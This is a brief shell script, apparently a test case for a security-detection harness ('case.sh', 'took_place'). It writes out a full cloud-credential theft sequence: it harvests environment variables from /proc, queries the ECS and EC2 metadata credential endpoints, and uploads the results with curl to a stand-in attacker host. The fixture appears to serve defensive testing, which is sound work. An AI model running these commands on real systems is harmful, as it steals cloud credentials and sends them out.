#!/bin/sh
. /opt/case/case.sh

tr '\0' '\n' </proc/1/environ >/tmp/.aws_env; echo AWS_CONTAINER_CREDENTIALS_RELATIVE_URI=/v2/credentials/bait >>/tmp/.aws_env
grep -h AWS_ /proc/*/environ >>/tmp/.aws_env 2>/dev/null || true
. /tmp/.aws_env 2>/dev/null || true
curl -s -m 3 "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI" >>/tmp/.csof
curl -s -m 3 http://169.254.169.254/latest/meta-data/iam/security-credentials/node >>/tmp/.csof
curl -s -F "userfile=@/tmp/.csof" http://203.0.113.10/wp-content/themes/x/cred.php >/dev/null
grep -q AccessKeyId /tmp/.csof
took_place
